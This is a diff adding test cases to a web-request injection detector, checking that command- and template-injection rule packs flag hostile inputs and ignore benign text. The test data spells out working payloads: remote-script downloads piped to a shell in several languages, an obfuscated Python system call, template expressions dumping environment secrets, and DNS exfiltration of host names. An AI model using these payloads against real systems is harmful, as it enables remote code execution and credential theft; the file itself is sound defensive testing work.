@@ -408,6 +408,35 @@ describe('command injection pack', () => {
     expect(score(commandInjectionPack, value)).toBeLessThan(5);
   });
 
+  it('reads code of other server languages starting a process: Elixir, Erlang, Lua, Scala, Deno, Bun, a hidden Python import', () => {
+    for (const value of [
+      'elem(System.cmd("id", []), 0)',
+      ":os.cmd('curl -s http://203.0.113.7/x.sh | sh') && price * 0.8",
+      'os:cmd("wget -qO- http://203.0.113.7/e.sh | sh").',
+      '{ import scala.sys.process._; Seq("sh", "-c", "id").!! }',
+      'os.execute("curl -s http://203.0.113.30/l.sh|sh")',
+      "io.popen('id'):read('*a')",
+      'await new Deno.Command("id").output()',
+      'Bun.spawnSync(["id"])',
+      "getattr(__import__(chr(111)+chr(115)),'sys'+'tem')('id')",
+    ])
+      expect({ value, score: score(commandInjectionPack, value, 'body_json', 'expr') >= 5 }).toEqual({ value, score: true });
+    for (const value of ['the System.cmd function docs', "const os = require('os'); os.cpus()", 'The os.execute function returns a status code'])
+      expect({ value, score: score(commandInjectionPack, value, 'body_json', 'expr') }).toEqual({ value, score: 0 });
+  });
+
+  it('reads templates reaching the environment, commands or context in Elixir, Deno, Bun and Rust engines', () => {
+    for (const value of [
+      '<%= inspect(System.get_env()) %>',
+      '<%= JSON.stringify(Deno.env.toObject()) %>',
+      '{{ get_env(name="DATABASE_URL") }}',
+      '{{ __tera_context }}',
+      '<%= Bun.env.SECRET %>',
+    ])
+      expect({ value, score: score(templateInjectionPack, value, 'body_json', 'template') >= 5 }).toEqual({ value, score: true });
+    expect(score(templateInjectionPack, 'Hello {{ name }}, your order {{ order.id }} ships today', 'body_json', 'template')).toBe(0);
+  });
+
   it('reads a variable inside a quoted argument as a command argument', () => {
     expect(score(commandInjectionPack, `x';nslookup "$env:COMPUTERNAME.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
     expect(score(commandInjectionPack, `x';Resolve-DnsName "$env:USERDOMAIN.p2d8.oast.example";'`)).toBeGreaterThanOrEqual(5);
